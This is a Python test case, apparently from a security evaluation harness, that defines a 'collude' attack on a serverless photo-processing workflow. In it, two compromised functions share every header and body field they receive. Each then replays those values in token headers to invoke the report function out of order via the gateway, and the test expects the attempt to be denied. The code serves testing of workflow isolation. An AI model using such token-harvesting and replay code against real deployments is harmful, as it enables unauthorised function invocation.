"""Scenario 2c: two exploited functions of one call tell each other all they know, and each uses it for an invocation out of turn."""

from experiments.attacks.case import Case, Match
from experiments.entries import MASTER, SUCCESS

# The master, in its turn, invokes success and tells it every field of the request that started it. Success adds what it got itself,
# invokes report before its caller does, and answers with all of it; the master then repeats its own invocation with that. Both write
# the fields of the workflow with every value that could be one.
CASE = Case(
    name="collude",
    category="scenario-2",
    claim="product-photos-6-report is invoked in the name of the master by an accomplice, and success again by the master",
    exploits={
        MASTER: """
            import os, requests
            marker = "@REVERSED@"[::-1]
            received = requests.post(os.environ["URL_RECEIVE"], json=event.body, timeout=30).json()
            mine = dict(event.headers.items())
            known = requests.post(os.environ["URL_SUCCESS"], json={**received, "known": mine}, timeout=30).json()["known"]
            names = ("X-Kalium-Token", "X-Kalium-Callback-Token", "X-Kalium-Call", "X-Kalium-Invocation")
            for value in list(known.values()) or [""]:
                fields = {**{name: text for name, text in known.items() if name.startswith("X-")}, **dict.fromkeys(names, value)}
                try:
                    requests.post(os.environ["URL_SUCCESS"], json={**received, "known": mine, "marker": marker}, headers=fields, timeout=10)
                except requests.RequestException:
                    pass
        """,
        SUCCESS: """
            import requests
            marker = "@REVERSED@"[::-1]
            known = {**event.body["known"], **dict(event.headers.items())}
            names = ("X-Kalium-Token", "X-Kalium-Callback-Token", "X-Kalium-Call", "X-Kalium-Invocation")
            for value in list(known.values()) or [""]:
                fields = {**{name: text for name, text in known.items() if name.startswith("X-")}, **dict.fromkeys(names, value)}
                try:
                    requests.post("http://gateway:8080/function/product-photos-6-report", headers=fields, timeout=10,
                                  json={"data": {"id": 1}, "photographer": {"id": "200494"}, "marker": marker})
                except requests.RequestException:
                    pass
            event.body["known"] = known
        """,
    },
    attacker=SUCCESS,
    allowed_first=Match(("start",), SUCCESS),
    denied=Match(("invoke",), "product-photos-6-report"),
    at_receiver=None,
)
